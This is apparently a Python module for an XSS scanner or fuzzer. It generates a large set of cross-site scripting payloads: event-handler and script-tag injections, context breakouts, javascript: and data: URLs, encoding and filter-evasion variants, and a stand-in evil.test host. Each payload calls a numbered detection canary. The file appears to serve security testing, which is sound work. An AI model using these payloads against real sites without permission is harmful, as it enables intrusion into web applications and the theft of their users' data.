"""Ways to run a script where words are expected, made from the known classes: elements × ways out of a context × spellings."""

from __future__ import annotations

from collections.abc import Callable

CALL = "__ww({number})"

ELEMENTS = (
    "<script>{call}</script>", "<img src=x onerror={call}>", "<svg onload={call}>", "<svg><script>{call}</script></svg>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>", "<iframe src=javascript:parent.{call}></iframe>",
    "<body onload={call}>", "<video><source onerror={call}></video>", "<audio src=x onerror={call}>",
    "<details open ontoggle={call}>x</details>", "<input autofocus onfocus={call}>", "<select autofocus onfocus={call}></select>",
    "<textarea autofocus onfocus={call}></textarea>", "<marquee onstart={call}>x</marquee>", "<object data=javascript:{call}></object>",
    "<embed src=javascript:{call}>", "<a href=javascript:{call}>x</a>", "<form action=javascript:{call}><button>x</button></form>",
    "<button form=f formaction=javascript:{call}>x</button>", "<svg><animate onbegin={call} attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:{call}><text y=9>x</text></a></svg>", "<math href=javascript:{call}>x</math>",
    "<template><script>{call}</script></template><img src=x onerror={call}>", "<div onmouseover={call} style=position:fixed;inset:0>x</div>",
    "<svg><foreignObject><img src=x onerror={call}></foreignObject></svg>", "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href=javascript:{call}//>", "<link rel=stylesheet href=x onerror={call}>", "<style onload={call}></style>",
    "<img src=x hx-on:error={call} onerror={call}>", "<div hx-on:load={call} hx-get=/ hx-trigger=load onclick={call}>x</div>",
)
WAYS_OUT = ("", '">', "'>", "</script>", "</textarea>", "</title></style>", "--><!-- -->", "]]>", "</noscript></template>", "`>")
ATTRIBUTES = (
    '" autofocus onfocus="{call}', "' autofocus onfocus='{call}", '" onmouseover="{call}" x="', "' onerror='{call}' src='x", " onload={call} x=",
    "` onfocus=`{call}", '"><p hx-on:load="{call}', "' data-x='y' onclick='{call}",
)
SCRIPTS = (
    '";{call};//', "';{call};//", "\\';{call};//", "${{{call}}}", "`+{call}+`", "{{{{constructor.constructor('{call}')()}}}}",
    "\\u003cimg src=x onerror={call}\\u003e", "</script><script>{call}//", "\u2028{call}//", '"-{call}-"',
)
ADDRESSES = (
    "javascript:{call}", "JaVaScRiPt:{call}", "java\tscript:{call}", "\x01javascript:{call}", " javascript:{call}", "javascript://%0a{call}",
    "data:text/html,<script>parent.{call}</script>", "vbscript:{call}", "//evil.test/{call}", "javascript&colon;{call}",
)
ENCODED = (
    "&lt;img src=x onerror={call}&gt;", "&#x3c;img src=x onerror={call}&#x3e;", "&amp;lt;script&amp;gt;{call}&amp;lt;/script&amp;gt;",
    "%3Cimg src=x onerror={call}%3E", "\uff1cimg src=x onerror={call}\uff1e", "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "<<script>{call}//<</script>", "<scr<script>ipt>{call}</scr</script>ipt>",
)
SPELLINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.replace("<img ", "<ImG/").replace("<svg ", "<sVg/").replace("<script", "<ScRiPt"),
    lambda text: text.replace(" on", "\n\ton").replace("<script>", "<script\n>"),
)


def make_payloads() -> list[str]:
    """Every payload with `{number}` where its own number goes, without repetitions."""
    found = [f"{way}{element}" for element in ELEMENTS for way in WAYS_OUT]
    found += [spell(element) for element in ELEMENTS for spell in SPELLINGS]
    found += [*ATTRIBUTES, *SCRIPTS, *ADDRESSES, *ENCODED]
    return [text.replace("{call}", CALL).replace("{{", "{").replace("}}", "}") for text in dict.fromkeys(found)]


PAYLOADS = make_payloads()


def numbered(number: int) -> str:
    """The payload that calls `__ww(number)` if it ever runs."""
    return PAYLOADS[number % len(PAYLOADS)].replace("{number}", str(number))
